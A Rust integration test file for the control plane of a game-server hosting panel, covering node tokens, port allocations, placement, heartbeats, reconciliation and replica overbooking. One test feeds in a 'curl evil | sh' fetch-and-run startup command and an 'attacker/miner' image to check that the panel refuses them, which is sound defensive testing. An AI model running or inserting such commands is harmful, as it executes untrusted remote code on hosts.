//! The control plane on the in-memory store and transport, with a scripted node: node
//! registration and tokens, allocations, server creation (placement, the allocation and the
//! row in one transaction, nothing left behind by a failure), a node that does not answer,
//! idempotent event ingest, heartbeats.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use async_trait::async_trait;
use chrono::Utc;
use nexus_control::nodes::NewNode;
use nexus_control::servers::{Delivery, NewServer};
use nexus_control::{ControlConfig, ControlError, ControlPlane, ingest::Ingested};
use nexus_core::ids::{NodeId, UserId};
use nexus_core::lifecycle::{LifecycleEvent, ServerState, Trigger};
use nexus_core::memory::{InProcessTransport, MemoryStore};
use nexus_core::model::{NodeCapacity, NodeStatus, Role, ServerLimits, User};
use nexus_core::store::Page;
use nexus_core::store::{AllocationRepo, EggRepo, NodeRepo, ServerFilter, ServerRepo, Store, UserRepo};
use nexus_core::transport::{Heartbeat, NodeCommand, NodeHandler, NodeMessage, NodeResponse, TransportError};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// A node that records what it is sent and keeps the servers it was given; `hang` makes it
/// never answer, `down` refuses every call as unreachable.
#[derive(Default)]
struct ScriptedNode {
    seen: Mutex<Vec<NodeCommand>>,
    servers: Mutex<Vec<nexus_core::transport::ServerStatus>>,
    hang: bool,
    down: AtomicBool,
}

#[async_trait]
impl NodeHandler for ScriptedNode {
    async fn handle(&self, command: NodeCommand) -> Result<NodeResponse, TransportError> {
        if self.down.load(Ordering::SeqCst) {
            return Err(TransportError::Unreachable("node".into(), "down".into()));
        }
        self.seen.lock().unwrap().push(command.clone());
        if self.hang {
            std::future::pending::<()>().await;
        }
        let mut servers = self.servers.lock().unwrap();
        match command {
            NodeCommand::CreateServer { spec, .. } => {
                servers.push(nexus_core::transport::ServerStatus { server: spec.id, state: ServerState::Installing });
            }
            NodeCommand::DestroyServer { server } => servers.retain(|s| s.server != server),
            NodeCommand::ListServers => return Ok(NodeResponse::Servers(servers.clone())),
            _ => {}
        }
        Ok(NodeResponse::Ok)
    }
}

struct World {
    control: ControlPlane,
    store: Arc<MemoryStore>,
    transport: InProcessTransport,
    owner: UserId,
}

async fn world() -> World {
    let store = Arc::new(MemoryStore::new());
    let (transport, _inbox) = InProcessTransport::new(16);
    let mut config = ControlConfig::default();
    config.node_timeout = Duration::from_millis(300);
    let control =
        ControlPlane::new(store.clone() as Arc<dyn Store>, Arc::new(transport.clone()), config).await.unwrap();
    let owner = User {
        id: UserId::new(),
        username: "owner".into(),
        email: "owner@example.com".into(),
        password_hash: String::new(),
        role: Role::User,
        created_at: Utc::now(),
    };
    store.create_user(&owner).await.unwrap();
    World { control, store, transport, owner: owner.id }
}

impl World {
    async fn node(&self, name: &str, memory_mb: u64, ports: &str, handler: Arc<ScriptedNode>) -> NodeId {
        let capacity = NodeCapacity { memory_mb, disk_mb: 100_000, cpu_percent: 400 };
        let registration =
            self.control.register_node(NewNode::new(name, format!("{name}.test"), 8080, capacity)).await.unwrap();
        let id = registration.node.id;
        self.control.add_allocations(id, "10.0.0.1".parse().unwrap(), ports).await.unwrap();
        self.transport.register(id, handler);
        self.control
            .ingest(
                id,
                NodeMessage::Heartbeat(Heartbeat { node: id, at: Utc::now(), version: "t".into(), servers: vec![] }),
            )
            .await
            .unwrap();
        id
    }

    async fn egg(&self) -> nexus_core::ids::EggId {
        let egg =
            nexus_eggs::import::import_egg(include_bytes!("../../egg-engine/tests/fixtures/egg-busybox-echo.json"))
                .unwrap();
        self.store.create_egg(&egg).await.unwrap();
        egg.id
    }

    fn request(&self, egg: nexus_core::ids::EggId, memory_mb: u64) -> NewServer {
        NewServer::new("srv", self.owner, egg, ServerLimits { memory_mb, ..ServerLimits::default() })
    }

    async fn claimed(&self, node: NodeId) -> usize {
        self.store.list_allocations(node).await.unwrap().iter().filter(|a| a.server.is_some()).count()
    }
}

#[tokio::test]
async fn a_node_token_is_shown_once_and_only_its_hash_is_kept() {
    let w = world().await;
    let capacity = NodeCapacity { memory_mb: 1024, disk_mb: 1024, cpu_percent: 100 };
    let registration = w.control.register_node(NewNode::new("n1", "n1.test", 8080, capacity)).await.unwrap();
    let stored = w.store.get_node(registration.node.id).await.unwrap();
    assert!(!stored.token_hash.contains(&registration.token), "the store never holds the token");
    assert_eq!(stored.status, NodeStatus::Offline, "offline until its first heartbeat");
    assert!(w.control.node_token_matches(stored.id, &registration.token).await.unwrap());
    assert!(!w.control.node_token_matches(stored.id, "guess").await.unwrap());
    assert!(!w.control.node_token_matches(NodeId::new(), &registration.token).await.unwrap());
}

#[tokio::test]
async fn allocations_come_from_port_lists_and_never_twice() {
    let w = world().await;
    let node = w.node("n1", 4096, "25565-25569,27015", Arc::default()).await;
    assert_eq!(w.store.list_allocations(node).await.unwrap().len(), 6);
    let again = w.control.add_allocations(node, "10.0.0.1".parse().unwrap(), "25569-25570").await;
    assert_eq!(again.unwrap_err().status_code(), 409, "25569 exists");
    assert_eq!(w.store.list_allocations(node).await.unwrap().len(), 6, "nothing added");
    let bad = w.control.add_allocations(node, "10.0.0.1".parse().unwrap(), "80").await.unwrap_err();
    assert!(matches!(bad, ControlError::InvalidPorts { .. }) && bad.status_code() == 422, "{bad}");
}

#[tokio::test]
async fn a_server_is_placed_claimed_stored_and_sent() {
    let w = world().await;
    let small_node = Arc::new(ScriptedNode::default());
    let big_node = Arc::new(ScriptedNode::default());
    let small = w.node("small", 1024, "30000-30001", small_node.clone()).await;
    let big = w.node("big", 8192, "30000-30001", big_node.clone()).await;
    let egg = w.egg().await;

    let mut request = w.request(egg, 2048);
    request.values.insert("GREETING".into(), "hey".into());
    let created = w.control.create_server(request).await.unwrap();
    assert_eq!(created.server.node, big, "only the big node fits 2 GiB");
    assert_eq!(created.delivery, Delivery::Sent);
    assert_eq!(created.server.state, ServerState::Requested);
    assert_eq!(w.store.get_server(created.server.id).await.unwrap(), created.server);
    assert_eq!((w.claimed(big).await, w.claimed(small).await), (1, 0));
    let allocation = w.store.get_allocation(created.server.primary_allocation).await.unwrap();
    assert_eq!(allocation.server, Some(created.server.id));
    assert_eq!(created.spec.allocations[0].port, allocation.port);
    assert_eq!(created.spec.environment["GREETING"], "hey");
    assert_eq!(created.spec.environment["MAX_PLAYERS"], "8", "defaults applied");
    match &big_node.seen.lock().unwrap()[..] {
        [NodeCommand::CreateServer { spec, install: true }] => assert_eq!(**spec, created.spec),
        other => panic!("the node got {other:?}"),
    }
    assert!(small_node.seen.lock().unwrap().is_empty());
}

#[tokio::test]
async fn a_refused_value_or_a_full_node_leaves_nothing_behind() {
    let w = world().await;
    let handler = Arc::new(ScriptedNode::default());
    let node = w.node("n1", 4096, "30000", handler.clone()).await;
    let egg = w.egg().await;

    let mut bad = w.request(egg, 512);
    bad.values.insert("MAX_PLAYERS".into(), "1000".into());
    match w.control.create_server(bad).await {
        Err(ControlError::Spec(e)) => {
            let text = e.to_string();
            assert!(text.contains("MAX_PLAYERS") && text.contains("between"), "{text}");
        }
        other => panic!("{other:?}"),
    }
    let mut unknown = w.request(egg, 512);
    unknown.values.insert("NOPE".into(), "1".into());
    assert_eq!(w.control.create_server(unknown).await.unwrap_err().status_code(), 422);
    assert_eq!(w.claimed(node).await, 0, "the claim was rolled back with the failed create");
    let servers = w.store.list_servers(&ServerFilter::default(), Page::first(100)).await.unwrap();
    assert!(servers.is_empty(), "no half-created server: {servers:?}");
    assert!(handler.seen.lock().unwrap().is_empty(), "the node heard nothing");

    // The one allocation goes to the first server; the second finds no room.
    w.control.create_server(w.request(egg, 512)).await.unwrap();
    let full = w.control.create_server(w.request(egg, 512)).await.unwrap_err();
    assert_eq!(full.status_code(), 409, "{full}");
    assert_eq!(w.store.list_servers(&ServerFilter::default(), Page::first(100)).await.unwrap().len(), 1);
}

#[tokio::test]
async fn a_node_that_does_not_answer_costs_only_its_own_timeout() {
    let w = world().await;
    let node = w.node("silent", 4096, "30000", Arc::new(ScriptedNode { hang: true, ..ScriptedNode::default() })).await;
    let egg = w.egg().await;
    let started = std::time::Instant::now();
    let created = w.control.create_server(w.request(egg, 512)).await.unwrap();
    assert!(started.elapsed() < Duration::from_secs(2), "{:?}", started.elapsed());
    assert!(
        matches!(created.delivery, Delivery::Pending(ref why) if why.contains("no answer")),
        "{:?}",
        created.delivery
    );
    assert_eq!(w.store.get_server(created.server.id).await.unwrap().state, ServerState::Requested);
    assert_eq!(created.server.node, node);
}

#[tokio::test]
async fn events_apply_once_and_only_from_the_servers_node() {
    let w = world().await;
    let node = w.node("n1", 4096, "30000", Arc::default()).await;
    let other = w.node("n2", 1024, "30000", Arc::default()).await;
    let egg = w.egg().await;
    let server = w.control.create_server(w.request(egg, 2048)).await.unwrap().server;
    assert_eq!(server.node, node);
    let event = LifecycleEvent {
        server: server.id,
        from: ServerState::Requested,
        to: ServerState::Installing,
        trigger: Trigger::InstallStarted,
        at: Utc::now(),
    };

    let forged = w.control.ingest(other, NodeMessage::Lifecycle(event.clone())).await.unwrap();
    assert!(matches!(forged, Ingested::Ignored(ref why) if why.contains("not on node")), "{forged:?}");
    assert_eq!(w.control.server(server.id).await.unwrap().state, ServerState::Requested);

    match w.control.ingest(node, NodeMessage::Lifecycle(event.clone())).await.unwrap() {
        Ingested::Transitioned(now) => assert_eq!(now.state, ServerState::Installing),
        other => panic!("{other:?}"),
    }
    assert_eq!(w.control.ingest(node, NodeMessage::Lifecycle(event.clone())).await.unwrap(), Ingested::AlreadyApplied);
    let events = w.store.server_events(server.id, 10).await.unwrap();
    assert_eq!(events, vec![event.clone()], "delivered twice, stored once");

    // Out of order (a state the server is not in): reported, not forced.
    let skipped =
        LifecycleEvent { from: ServerState::Starting, to: ServerState::Running, trigger: Trigger::Ready, ..event };
    assert!(matches!(w.control.ingest(node, NodeMessage::Lifecycle(skipped)).await.unwrap(), Ingested::Ignored(_)));
    assert_eq!(w.control.server(server.id).await.unwrap().state, ServerState::Installing);
}

#[tokio::test]
async fn silent_nodes_go_offline_and_stop_being_chosen_until_they_beat_again() {
    let w = world().await;
    let quiet = w.node("quiet", 8192, "30000-30004", Arc::default()).await;
    let egg = w.egg().await;
    let interval = w.control.config().heartbeat_interval;
    let later = Utc::now() + chrono::Duration::from_std(interval * 3 + Duration::from_secs(1)).unwrap();
    assert_eq!(w.control.mark_silent_nodes_offline(Utc::now()).await.unwrap(), Vec::<NodeId>::new(), "just beat");
    assert_eq!(w.control.mark_silent_nodes_offline(later).await.unwrap(), vec![quiet]);
    assert_eq!(w.store.get_node(quiet).await.unwrap().status, NodeStatus::Offline);
    let refused = w.control.create_server(w.request(egg, 512)).await.unwrap_err();
    assert!(matches!(refused, ControlError::Placement(_)), "{refused}");

    let beat = Heartbeat { node: quiet, at: Utc::now(), version: "t".into(), servers: vec![] };
    assert!(matches!(
        w.control.ingest(quiet, NodeMessage::Heartbeat(beat.clone())).await.unwrap(),
        Ingested::Returned(_)
    ));
    assert_eq!(
        w.control.ingest(quiet, NodeMessage::Heartbeat(beat)).await.unwrap(),
        Ingested::Heartbeat,
        "online already"
    );
    assert_eq!(w.store.get_node(quiet).await.unwrap().status, NodeStatus::Online);
    assert!(w.control.create_server(w.request(egg, 512)).await.is_ok(), "chosen again");
}

/// A node that was away: a server deleted meanwhile is destroyed on it, a create it never got
/// is sent again (the same spec), and nothing is started.
#[tokio::test]
async fn a_returning_node_is_reconciled_without_starting_anything() {
    let w = world().await;
    let handler = Arc::new(ScriptedNode::default());
    let node = w.node("away", 8192, "30000-30004", handler.clone()).await;
    let egg = w.egg().await;
    let delivered = w.control.create_server(w.request(egg, 512)).await.unwrap();

    // The node goes down: a create does not reach it.
    handler.down.store(true, Ordering::SeqCst);
    let pending = w.control.create_server(w.request(egg, 512)).await.unwrap();
    assert!(matches!(pending.delivery, Delivery::Pending(_)), "{:?}", pending.delivery);
    let later = Utc::now() + chrono::Duration::seconds(60);
    assert_eq!(w.control.mark_silent_nodes_offline(later).await.unwrap(), vec![node]);
    handler.down.store(false, Ordering::SeqCst);
    handler.seen.lock().unwrap().clear();

    // It comes back running the delivered server and one the panel deleted meanwhile.
    let deleted = nexus_core::ids::ServerId::new();
    let servers = vec![
        nexus_core::transport::ServerStatus { server: delivered.server.id, state: ServerState::Running },
        nexus_core::transport::ServerStatus { server: deleted, state: ServerState::Running },
    ];
    let beat = Heartbeat { node, at: Utc::now(), version: "t".into(), servers };
    let Ingested::Returned(done) = w.control.ingest(node, NodeMessage::Heartbeat(beat)).await.unwrap() else {
        panic!("not treated as a return")
    };
    assert_eq!((done.destroyed.clone(), done.resent.clone()), (vec![deleted], vec![pending.server.id]), "{done:?}");
    assert!(done.failed.is_empty(), "{done:?}");
    let seen = handler.seen.lock().unwrap();
    assert_eq!(seen.len(), 3, "a destroy, the node's own list, a create: {seen:?}");
    assert!(seen.contains(&NodeCommand::DestroyServer { server: deleted }));
    assert!(seen.contains(&NodeCommand::ListServers), "asked before sending a create again");
    assert!(
        seen.iter().any(|c| matches!(c, NodeCommand::CreateServer { spec, install: true } if **spec == pending.spec)),
        "the same spec again: {seen:?}"
    );
    assert!(!seen.iter().any(|c| matches!(c, NodeCommand::Power { .. })), "nothing started");
}

/// A server's `Destroyed` event removes it from the store and frees its allocation, which the
/// next server gets; a late duplicate of the event changes nothing.
#[tokio::test]
async fn a_destroyed_server_gives_its_allocation_back() {
    let w = world().await;
    let handler = Arc::new(ScriptedNode::default());
    let node = w.node("n1", 1024, "30000", handler.clone()).await;
    let egg = w.egg().await;
    let first = w.control.create_server(w.request(egg, 1024)).await.unwrap().server;
    assert_eq!(w.control.create_server(w.request(egg, 512)).await.unwrap_err().status_code(), 409, "node full");

    let at = Utc::now();
    let step = |from, to, trigger| LifecycleEvent { server: first.id, from, to, trigger, at };
    for event in [
        step(ServerState::Requested, ServerState::Installing, Trigger::InstallStarted),
        step(ServerState::Installing, ServerState::Installed, Trigger::InstallSucceeded),
    ] {
        w.control.ingest(node, NodeMessage::Lifecycle(event)).await.unwrap();
    }
    w.control.destroy_server(first.id).await.unwrap();
    assert!(handler.seen.lock().unwrap().contains(&NodeCommand::DestroyServer { server: first.id }));
    assert!(w.control.server(first.id).await.is_ok(), "an installed server waits for its node's event");
    let destroying = step(ServerState::Installed, ServerState::Destroying, Trigger::Destroy);
    let destroyed = step(ServerState::Destroying, ServerState::Destroyed, Trigger::DestroyCompleted);
    w.control.ingest(node, NodeMessage::Lifecycle(destroying)).await.unwrap();
    assert_eq!(
        w.control.ingest(node, NodeMessage::Lifecycle(destroyed.clone())).await.unwrap(),
        Ingested::Removed(first.id)
    );
    assert!(matches!(w.control.server(first.id).await, Err(ControlError::UnknownServer(_))));
    assert_eq!(w.claimed(node).await, 0);
    assert!(matches!(w.control.ingest(node, NodeMessage::Lifecycle(destroyed)).await.unwrap(), Ingested::Ignored(_)));

    let second = w.control.create_server(w.request(egg, 1024)).await.unwrap().server;
    assert_eq!(second.node, node, "the memory and the port are free again");
}

/// The heartbeat watch marks a silent node offline on its own and stops when asked.
#[tokio::test]
async fn the_heartbeat_watch_runs_until_shutdown() {
    let store = Arc::new(MemoryStore::new());
    let (transport, _inbox) = InProcessTransport::new(4);
    let mut config = ControlConfig::default();
    config.heartbeat_interval = Duration::from_millis(50);
    let control =
        Arc::new(ControlPlane::new(store.clone() as Arc<dyn Store>, Arc::new(transport), config).await.unwrap());
    let capacity = NodeCapacity { memory_mb: 1024, disk_mb: 1024, cpu_percent: 100 };
    let node = control.register_node(NewNode::new("n", "n.test", 8080, capacity)).await.unwrap().node.id;
    let beat = Heartbeat { node, at: Utc::now(), version: "t".into(), servers: vec![] };
    control.ingest(node, NodeMessage::Heartbeat(beat)).await.unwrap();
    assert_eq!(store.get_node(node).await.unwrap().status, NodeStatus::Online);

    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let watch = tokio::spawn({
        let control = control.clone();
        async move {
            control
                .watch_heartbeats(async move {
                    let _ = stopped.await;
                })
                .await;
        }
    });
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    while store.get_node(node).await.unwrap().status != NodeStatus::Offline {
        assert!(std::time::Instant::now() < deadline, "still online after 3 silent intervals");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    stop.send(()).unwrap();
    tokio::time::timeout(Duration::from_secs(2), watch).await.expect("the watch stops").unwrap();
}

/// At a node's first contact (a re-registered node, a restored database), servers the panel
/// does not have are reported, never destroyed; and a create already in flight (the node has
/// the server though its heartbeat did not list it yet) is not sent twice.
#[tokio::test]
async fn first_contact_destroys_nothing_and_no_create_is_sent_twice() {
    let w = world().await;
    let capacity = NodeCapacity { memory_mb: 4096, disk_mb: 100_000, cpu_percent: 400 };
    let registration = w.control.register_node(NewNode::new("old", "old.test", 8080, capacity)).await.unwrap();
    let node = registration.node.id;
    w.control.add_allocations(node, "10.0.0.1".parse().unwrap(), "30000-30001").await.unwrap();
    let handler = Arc::new(ScriptedNode::default());
    w.transport.register(node, handler.clone());
    let stranger = nexus_core::ids::ServerId::new();
    let running = vec![nexus_core::transport::ServerStatus { server: stranger, state: ServerState::Running }];
    let beat = Heartbeat { node, at: Utc::now(), version: "t".into(), servers: running };
    let Ingested::Returned(done) = w.control.ingest(node, NodeMessage::Heartbeat(beat)).await.unwrap() else {
        panic!("first contact reconciles")
    };
    assert_eq!((done.unknown.clone(), done.destroyed.clone()), (vec![stranger], vec![]), "{done:?}");
    assert!(!handler.seen.lock().unwrap().iter().any(|c| matches!(c, NodeCommand::DestroyServer { .. })));

    // A server created while the node's stale heartbeat (not listing it) is on its way.
    let egg = w.egg().await;
    let created = w.control.create_server(w.request(egg, 512)).await.unwrap();
    assert_eq!(created.delivery, Delivery::Sent);
    let later = Utc::now() + chrono::Duration::seconds(60);
    w.control.mark_silent_nodes_offline(later).await.unwrap();
    let stale = Heartbeat { node, at: Utc::now(), version: "t".into(), servers: vec![] };
    let Ingested::Returned(done) = w.control.ingest(node, NodeMessage::Heartbeat(stale)).await.unwrap() else {
        panic!("a return reconciles")
    };
    assert!(done.resent.is_empty(), "the node's own list has it: {done:?}");
    let creates = handler.seen.lock().unwrap().iter().filter(|c| matches!(c, NodeCommand::CreateServer { .. })).count();
    assert_eq!(creates, 1, "one create, never two");
}

/// A server its node never received (the create did not reach it) sends no `Destroyed`
/// event: removing it removes it at once, allocation and all.
#[tokio::test]
async fn removing_a_server_the_node_never_got_frees_it_at_once() {
    let w = world().await;
    let handler = Arc::new(ScriptedNode::default());
    let node = w.node("n1", 4096, "30000", handler.clone()).await;
    let egg = w.egg().await;
    handler.down.store(true, Ordering::SeqCst);
    let pending = w.control.create_server(w.request(egg, 512)).await.unwrap();
    assert!(matches!(pending.delivery, Delivery::Pending(_)));
    handler.down.store(false, Ordering::SeqCst);
    w.control.destroy_server(pending.server.id).await.unwrap();
    assert!(matches!(w.control.server(pending.server.id).await, Err(ControlError::UnknownServer(_))));
    assert_eq!(w.claimed(node).await, 0);
}

/// Users pick among the egg's images and keep its startup; admins may set either.
#[tokio::test]
async fn users_cannot_choose_foreign_images_or_startup_commands() {
    let w = world().await;
    w.node("n1", 4096, "30000-30003", Arc::default()).await;
    let egg = w.egg().await;
    let mut foreign = w.request(egg, 256);
    foreign.image = Some("attacker/miner:latest".into());
    assert_eq!(w.control.create_server(foreign.clone()).await.unwrap_err().status_code(), 403);
    let mut startup = w.request(egg, 256);
    startup.startup = Some("curl evil | sh".into());
    assert_eq!(w.control.create_server(startup).await.unwrap_err().status_code(), 403);
    let mut listed = w.request(egg, 256);
    listed.image = Some("nexus-test/busybox:latest".into());
    assert!(w.control.create_server(listed).await.is_ok());
    foreign.editor = nexus_eggs::spec::Editor::Admin;
    assert!(w.control.create_server(foreign).await.is_ok(), "an admin may");
}

/// With a node secret, the panel can compute a node's token again (after a restart) while the
/// store holds only its hash; another secret, or a node with a random token, is refused.
#[tokio::test]
async fn derived_node_tokens_survive_a_panel_restart() {
    let store = Arc::new(MemoryStore::new());
    let start = |secret: Option<&[u8]>| {
        let store = store.clone();
        let secret = secret.map(|s| nexus_control::NodeSecret::new(s.to_vec()).unwrap());
        async move {
            let (transport, _inbox) = InProcessTransport::new(4);
            let mut config = ControlConfig::default();
            config.node_secret = secret;
            ControlPlane::new(store as Arc<dyn Store>, Arc::new(transport), config).await.unwrap()
        }
    };
    let secret: &[u8] = b"the panel's node secret, 32+ bytes";
    let first = start(Some(secret)).await;
    let capacity = NodeCapacity { memory_mb: 1024, disk_mb: 1024, cpu_percent: 100 };
    let registration = first.register_node(NewNode::new("n", "node.example", 8443, capacity)).await.unwrap();
    drop(first);

    let again = start(Some(secret)).await;
    let (url, token) = again.node_endpoint(registration.node.id).await.unwrap();
    assert_eq!((url.as_str(), token.as_str()), ("https://node.example:8443", registration.token.as_str()));
    assert!(!store.get_node(registration.node.id).await.unwrap().token_hash.contains(&token));

    let other = start(Some(b"a different secret, also 32 bytes+")).await;
    assert!(matches!(other.node_endpoint(registration.node.id).await, Err(ControlError::Invalid { .. })));
    let random = start(None).await.register_node(NewNode::new("r", "r.example", 8443, capacity)).await.unwrap();
    assert!(matches!(again.node_endpoint(random.node.id).await, Err(ControlError::Invalid { .. })));
    assert!(nexus_control::NodeSecret::new(b"short".to_vec()).is_err());
}

/// A create interrupted between the store and the node (a crashed panel) is delivered at the
/// next start; one the node already has is not sent twice.
#[tokio::test]
async fn pending_creates_are_delivered_when_the_panel_starts_again() {
    let w = world().await;
    let handler = Arc::new(ScriptedNode::default());
    let node = w.node("n1", 4096, "30000-30003", handler.clone()).await;
    let egg = w.egg().await;
    handler.down.store(true, Ordering::SeqCst);
    let lost = w.control.create_server(w.request(egg, 256)).await.unwrap();
    assert!(matches!(lost.delivery, Delivery::Pending(_)));
    handler.down.store(false, Ordering::SeqCst);
    let delivered = w.control.create_server(w.request(egg, 256)).await.unwrap();
    assert_eq!(delivered.delivery, Delivery::Sent);
    handler.seen.lock().unwrap().clear();

    assert_eq!(w.control.resume_requested().await.unwrap(), vec![lost.server.id]);
    let seen = handler.seen.lock().unwrap().clone();
    let creates: Vec<_> = seen.iter().filter(|c| matches!(c, NodeCommand::CreateServer { .. })).collect();
    assert_eq!(creates.len(), 1, "only the lost one: {seen:?}");
    assert_eq!(w.control.resume_requested().await.unwrap(), vec![], "now the node has both");
    let _ = node;
}

/// Two panel processes on one store: each placement books only its own creates, so the second
/// chooses the node whose last port the first just took. It learns the node's usage from the
/// store and places the server on the next node instead of refusing it (`409`). Found by the
/// 1,000-node simulation, where two replicas refused 106 of 114 creates.
#[tokio::test]
async fn a_create_whose_node_filled_up_meanwhile_is_placed_on_the_next_node() {
    let w = world().await;
    let (first, second) = (Arc::new(ScriptedNode::default()), Arc::new(ScriptedNode::default()));
    // Bin-pack prefers the smaller node while it fits; it has one port.
    let small = w.node("small", 2048, "30000", first.clone()).await;
    let big = w.node("big", 8192, "30000-30009", second.clone()).await;
    let egg = w.egg().await;
    let mut config = ControlConfig::default();
    config.node_timeout = Duration::from_millis(300);
    let replica =
        ControlPlane::new(w.store.clone() as Arc<dyn Store>, Arc::new(w.transport.clone()), config).await.unwrap();

    let taken = w.control.create_server(w.request(egg, 256)).await.unwrap();
    assert_eq!(taken.server.node, small, "bin-pack fills the smaller node first");
    // The replica's placement still counts a free port on `small`.
    let placed = replica.create_server(w.request(egg, 256)).await.unwrap();
    assert_eq!(placed.server.node, big, "placed on the next node, not refused");
    assert_eq!((w.claimed(small).await, w.claimed(big).await), (1, 1));
    // A create pinned to the full node is still refused: there is nowhere else it may go.
    let mut pinned = w.request(egg, 256);
    pinned.node = Some(small);
    assert_eq!(replica.create_server(pinned).await.unwrap_err().status_code(), 409);
}

/// Two panel processes on one store, each placing with only its own bookings: a create that
/// would overbook a node's memory by the store's count goes to the next node, and one that
/// fits nowhere is refused; no node ever holds more than its capacity.
#[tokio::test]
async fn replicas_never_overbook_a_node_they_both_choose() {
    let w = world().await;
    let (first, second) = (Arc::new(ScriptedNode::default()), Arc::new(ScriptedNode::default()));
    let small = w.node("small", 1024, "30000-30009", first.clone()).await;
    let big = w.node("big", 2048, "30000-30009", second.clone()).await;
    let egg = w.egg().await;
    let mut config = ControlConfig::default();
    config.node_timeout = Duration::from_millis(300);
    let replica =
        ControlPlane::new(w.store.clone() as Arc<dyn Store>, Arc::new(w.transport.clone()), config).await.unwrap();

    let taken = w.control.create_server(w.request(egg, 768)).await.unwrap();
    assert_eq!(taken.server.node, small, "bin-pack fills the smaller node first");
    // The replica's placement still sees `small` empty and chooses it: 768 + 768 > 1024.
    let placed = replica.create_server(w.request(egg, 768)).await.unwrap();
    assert_eq!(placed.server.node, big, "placed on the next node, not overbooked");
    // The first process's placement has not seen the replica's booking on `big` either.
    let more = w.control.create_server(w.request(egg, 1024)).await.unwrap();
    assert_eq!(more.server.node, big, "768 + 1024 fits into 2048");
    let refused = replica.create_server(w.request(egg, 512)).await.unwrap_err();
    assert_eq!(refused.status_code(), 409, "nowhere has 512 MiB left: {refused}");
    for usage in w.store.node_usage().await.unwrap() {
        let capacity = if usage.node == Some(small) { 1024 } else { 2048 };
        assert!(usage.memory_mb <= capacity, "overbooked: {usage:?}");
    }
}
